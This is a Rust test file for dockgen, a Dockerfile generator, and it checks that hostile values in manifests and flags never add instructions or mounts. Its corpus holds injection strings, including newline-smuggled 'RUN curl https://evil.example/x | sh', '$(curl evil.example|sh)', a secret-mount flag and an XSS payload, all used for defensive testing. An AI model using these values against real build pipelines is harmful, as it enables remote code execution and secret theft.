//! Hostile projects and flags: values from manifests and the command line
//! must never add an instruction, a stage or a mount to the Dockerfile.
//!
//! Each case puts one hostile value into one place a preset reads (a module
//! path, a package name, a script, a main class, a port, a flag...) and
//! generates. Either dockgen refuses with one clean line, or the Dockerfile
//! parses to exactly the instruction census of the same project with a
//! benign value, with the same number of mounts, exec-form arrays that are
//! valid JSON, and no build-check finding.

use dockgen::dockerfile;
use dockgen::plan::Choices;
use dockgen::preset::RuntimeKind;
use std::path::Path;

#[path = "hostile/places.rs"]
mod places;
use places::{places, OTHER_ROAD};

/// What every generation here goes through. tests/hostile_overlay.rs
/// includes this file as a module and defines its own `before_generate`
/// (an organisation's overlay, active before anything renders); here,
/// nothing.
#[allow(dead_code)]
pub fn before_generate() {}

fn generate_with_overlays(dir: &Path, choices: &Choices) -> anyhow::Result<(dockgen::plan::Plan, Vec<dockgen::render::OutputFile>)> {
    crate::before_generate();
    dockgen::generate(dir, choices, dockgen::Extras::ALL)
}

/// The corpus: (what, value).
fn corpus() -> Vec<(&'static str, String)> {
    vec![
        ("newline", "x\nRUN curl https://evil.example/x | sh".into()),
        ("carriage return", "x\rRUN curl https://evil.example/x | sh".into()),
        ("CRLF", "x\r\nRUN id".into()),
        ("unicode line separator", "x\u{2028}RUN id".into()),
        ("tab", "x\tRUN id".into()),
        ("double quote", "x\" && curl evil.example #".into()),
        ("single quote", "x' ; id ; echo '".into()),
        ("backslash continuation", "x \\\nRUN id".into()),
        ("trailing backslash", "x\\".into()),
        ("command substitution", "$(curl evil.example|sh)".into()),
        ("backticks", "`id`".into()),
        ("variable", "${PATH}".into()),
        ("bare variable", "$HOME/x".into()),
        ("heredoc", "<<EOF\nRUN id\nEOF".into()),
        ("json break", "\"]\nRUN [\"id".into()),
        ("mount flag", "x --mount=type=secret,id=npmrc,target=/root/.npmrc".into()),
        ("comment marker", "# syntax=evil/frontend".into()),
        ("NUL", "x\0y".into()),
        ("escape sequence", "x\u{1b}[2J".into()),
        // Found by fuzzing (Procfile): C1 controls passed JSON escaping raw.
        ("C1 control", "x\u{9c}y\u{9b}2J".into()),
        ("DEL", "x\u{7f}y".into()),
        ("bidi override", "x\u{202e}gnp.exe".into()),
        ("very long", "a".repeat(100_000)),
        ("spaces", "a b c".into()),
        ("semicolon", "a;b".into()),
        // README.Docker.md is Markdown: HTML, links, fences and headings.
        ("html", "<img src=x onerror=alert(1)>".into()),
        ("markdown link", "[click](javascript:alert(1))".into()),
        ("markdown fence", "```\n## Owned".into()),
    ]
}


/// What must hold for one generation against its benign twin.
fn judge(case: &str, result: anyhow::Result<(dockgen::plan::Plan, Vec<dockgen::render::OutputFile>)>, baseline: &str) -> Result<&'static str, String> {
    let (plan, files) = match result {
        Err(e) => {
            let msg = format!("{e:#}");
            if msg.is_empty() || msg.chars().any(|c| c.is_control()) {
                return Err(format!("{case}: refused, but the message is not one clean line: {msg:?}"));
            }
            return Ok("refused");
        }
        Ok(r) => r,
    };
    // Warnings reach the terminal: one printable line each.
    if let Some(w) = plan.warnings.iter().find(|w| w.chars().any(|c| c.is_control() || dockgen::text::invisible(c))) {
        return Err(format!("{case}: a warning is not one printable line: {w:?}"));
    }
    let text = &files[0].contents;
    let census = dockerfile::census(text).map_err(|e| format!("{case}: the Dockerfile no longer parses: {e}\n{text}"))?;
    let want = dockerfile::census(baseline).unwrap();
    if census != want {
        return Err(format!("{case}: instructions changed: {census:?} vs {want:?}\n{text}"));
    }
    if mounts(text) != mounts(baseline) {
        return Err(format!("{case}: mounts changed\n{text}"));
    }
    let problems = dockerfile::check(text);
    if !problems.is_empty() {
        return Err(format!("{case}: build-check findings {problems:?}\n{text}"));
    }
    for i in dockerfile::parse(text).unwrap() {
        let kw = i.keyword.to_ascii_uppercase();
        if (kw == "CMD" || kw == "ENTRYPOINT") && serde_json::from_str::<Vec<String>>(&i.args).is_err() {
            return Err(format!("{case}: {kw} is not a JSON array: {}", i.args));
        }
        if i.args.contains('\0') || i.args.chars().any(|c| c.is_control() && c != '\t') {
            return Err(format!("{case}: a control character reached line {}", i.line));
        }
    }
    if text.chars().any(|c| c == '\0' || c == '\r' || c == '\u{2028}' || c == '\u{1b}') {
        return Err(format!("{case}: a raw control or line-separator character is in the file"));
    }
    if let Some(readme) = files.iter().find(|f| f.name == "README.Docker.md") {
        judge_readme(&readme.contents).map_err(|e| format!("{case}: README.Docker.md: {e}\n{}", readme.contents))?;
    }
    Ok("quoted")
}

/// README.Docker.md keeps its shape whatever the project says: the same
/// headings, code fences that open and close, no HTML but the keep marker
/// and the placeholders, nothing invisible.
fn judge_readme(text: &str) -> Result<(), String> {
    const HEADINGS: &[&str] = &["## Build and run", "## Multi-platform images", "## Supply chain", "## Size", "## What the image assumes"];
    if text.chars().any(|c| (c.is_control() && c != '\n') || matches!(c, '\u{2028}' | '\u{2029}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')) {
        return Err("an invisible or control character".into());
    }
    let mut fences = 0;
    for line in text.lines() {
        if line.starts_with("```") {
            if line != "```" && line != "```sh" {
                return Err(format!("a fence line {line:?}"));
            }
            fences += 1;
        } else if line.starts_with('#') && fences % 2 == 0 && !line.ends_with(": the container image") && !HEADINGS.contains(&line) {
            return Err(format!("a heading dockgen did not write: {line:?}"));
        }
    }
    if fences % 2 != 0 {
        return Err("a code block never closes".into());
    }
    for (i, _) in text.match_indices('<') {
        // `\<` is Markdown's escaped `<`: text, not a tag.
        if text[..i].ends_with('\\') {
            continue;
        }
        let rest = &text[i + 1..];
        if !["registry>", "tag>", "digest>", "container>", "!-- dockgen: keep -->", "!-- dockgen: end -->"].iter().any(|ok| rest.starts_with(ok)) {
            return Err(format!("raw HTML at {:?}", &text[i..text.len().min(i + 30)]));
        }
    }
    Ok(())
}

/// RUN --mount flags (not the text "--mount=" inside a quoted argument).
fn mounts(text: &str) -> usize {
    dockerfile::parse(text)
        .unwrap()
        .iter()
        .filter(|i| i.keyword.eq_ignore_ascii_case("RUN"))
        .map(|i| i.args.split_whitespace().take_while(|w| w.starts_with("--")).filter(|w| w.starts_with("--mount=")).count())
        .sum()
}

fn generate(dir: &Path, choices: &Choices) -> anyhow::Result<(dockgen::plan::Plan, Vec<dockgen::render::OutputFile>)> {
    // A panic is a failure too, reported with its case.
    std::panic::catch_unwind(|| generate_with_overlays(dir, choices)).unwrap_or_else(|_| Err(anyhow::anyhow!("PANIC")))
}

#[test]
fn hostile_project_values_never_add_instructions() {
    let mut failures = Vec::new();
    let mut tally = std::collections::BTreeMap::new();
    for (place, build, benign_value) in places() {
        let benign = tempfile::tempdir().unwrap();
        build(benign.path(), benign_value);
        let baseline = match generate_with_overlays(benign.path(), &Choices::default()) {
            Ok((_, files)) => files[0].contents.clone(),
            Err(e) => panic!("{place}: the benign project does not generate: {e:#}"),
        };
        for (what, value) in corpus() {
            let dir = tempfile::tempdir().unwrap();
            build(dir.path(), &value);
            let case = format!("{place} <- {what}");
            let result = generate(dir.path(), &Choices::default());
            // A place whose hostile values may rightly take the other road
            // (a script's command dockgen cannot run as it is: its own start)
            // is compared with that road's benign twin too.
            if let Some((_, alt)) = OTHER_ROAD.iter().find(|(p, _)| *p == place)
                && judge(&case, generate(dir.path(), &Choices::default()), &baseline).is_err()
            {
                let twin = tempfile::tempdir().unwrap();
                build(twin.path(), alt);
                let alt_baseline = generate_with_overlays(twin.path(), &Choices::default()).unwrap().1[0].contents.clone();
                match judge(&case, result, &alt_baseline) {
                    Ok(outcome) => *tally.entry(outcome).or_insert(0) += 1,
                    Err(f) => failures.push(f),
                }
                continue;
            }
            match judge(&case, result, &baseline) {
                Ok(outcome) => *tally.entry(outcome).or_insert(0) += 1,
                Err(f) => failures.push(f),
            }
        }
    }
    assert!(failures.is_empty(), "{} hostile case(s) got through:\n\n{}", failures.len(), failures.join("\n\n"));
    eprintln!("hostile project values: {tally:?}");
}

#[test]
fn hostile_flags_never_add_instructions() {
    let examples = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples");
    let mut failures = Vec::new();
    for example in ["go-stdlib", "go-cmd", "node-express-npm", "node-vite-spa", "python-flask", "java-maven-classpath"] {
        let dir = examples.join(example);
        let baseline = generate_with_overlays(&dir, &Choices { runtime: Some(RuntimeKind::Slim), ..Default::default() }).unwrap().1[0].contents.clone();
        // A start command may change more than the CMD (gunicorn's runtime
        // directory): its twin is the same command with a benign argument.
        let start = |v: &str| Choices { start: Some(vec!["/usr/local/bin/app".into(), v.into()]), runtime: Some(RuntimeKind::Slim), ..Default::default() };
        let start_baseline = generate_with_overlays(&dir, &start("hello")).unwrap().1[0].contents.clone();
        for (what, value) in corpus() {
            let flags: Vec<(&str, Choices)> = vec![
                ("--start", Choices { start: Some(vec!["/usr/local/bin/app".into(), value.clone()]), ..Default::default() }),
                ("--main", Choices { main: Some(value.clone()), ..Default::default() }),
                ("--lang-version", Choices { lang_version: Some(value.clone()), ..Default::default() }),
                ("--output-dir", Choices { output_dir: Some(value.clone()), ..Default::default() }),
                ("--preset", Choices { preset: Some(value.clone()), ..Default::default() }),
                ("--health-path", Choices { health_path: Some(format!("/{value}")), ..Default::default() }),
            ];
            for (flag, mut choices) in flags {
                choices.runtime = Some(RuntimeKind::Slim);
                let case = format!("{example} {flag} <- {what}");
                let twin = if flag == "--start" { &start_baseline } else { &baseline };
                if let Err(f) = judge(&case, generate(&dir, &choices), twin) {
                    failures.push(f);
                }
            }
        }
    }
    assert!(failures.is_empty(), "{} hostile flag case(s) got through:\n\n{}", failures.len(), failures.join("\n\n"));
}

#[test]
fn non_utf8_and_nul_bytes_in_manifests_are_refused_by_name() {
    let cases: &[(&str, &[u8])] = &[
        ("go.mod", b"module \xff\xfe\n\ngo 1.22\n"),
        ("package.json", b"{\"name\":\"a\xff\"}"),
        ("requirements.txt", b"flask\n\xc3\x28\n"),
        ("pom.xml", b"<project><artifactId>\xff</artifactId></project>"),
        ("pyproject.toml", b"[project]\nname = \"a\0b\"\n"),
    ];
    for (file, bytes) in cases {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join(file), bytes).unwrap();
        if *file == "requirements.txt" || *file == "pyproject.toml" {
            std::fs::write(dir.path().join("app.py"), "from flask import Flask\napp = Flask(__name__)\n").unwrap();
        }
        let err = match generate(dir.path(), &Choices::default()) {
            Err(e) => format!("{e:#}"),
            Ok((_, files)) => panic!("{file}: accepted:\n{}", files[0].contents),
        };
        assert!(err.contains(file), "{file}: the error does not name the file: {err}");
        assert!(!err.chars().any(|c| c.is_control()), "{file}: {err:?}");
    }
}

/// Non-UTF-8 bytes in every place: the benign project with "hello" replaced
/// by bytes that are not UTF-8 (a lone continuation byte, an overlong NUL,
/// Latin-1). Refused with one clean line naming the file, or rendered safely.
#[test]
fn non_utf8_bytes_in_every_place_are_refused_or_harmless() {
    let mut failures = Vec::new();
    for (place, build, benign_value) in places() {
        let benign = tempfile::tempdir().unwrap();
        build(benign.path(), benign_value);
        let baseline = generate_with_overlays(benign.path(), &Choices::default()).unwrap().1[0].contents.clone();
        for bad in [&b"\x80"[..], b"\xc0\x80", b"h\xe9llo"] {
            let dir = tempfile::tempdir().unwrap();
            build(dir.path(), benign_value);
            let mut touched = 0;
            for path in files_below(dir.path()) {
                let Ok(text) = std::fs::read_to_string(&path) else { continue };
                if text.contains(benign_value) {
                    let bytes = text.replacen(benign_value, "\u{1}", 1).into_bytes();
                    let bytes: Vec<u8> = bytes.iter().flat_map(|b| if *b == 1 { bad.to_vec() } else { vec![*b] }).collect();
                    std::fs::write(&path, bytes).unwrap();
                    touched += 1;
                }
            }
            // A value that is a folder's name: the folder renamed to the bytes.
            if touched == 0 && dir.path().join(benign_value).is_dir() {
                use std::os::unix::ffi::OsStrExt;
                let name: Vec<u8> = benign_value.as_bytes().iter().take(1).copied().chain(bad.iter().copied()).collect();
                std::fs::rename(dir.path().join(benign_value), dir.path().join(std::ffi::OsStr::from_bytes(&name))).unwrap();
                touched += 1;
            }
            assert!(touched > 0, "{place}: the benign value is in no file");
            let case = format!("{place} <- non-UTF-8 {bad:?}");
            if let Err(f) = judge(&case, generate(dir.path(), &Choices::default()), &baseline) {
                failures.push(f);
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

fn files_below(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        if path.is_dir() { out.extend(files_below(&path)) } else { out.push(path) }
    }
    out
}
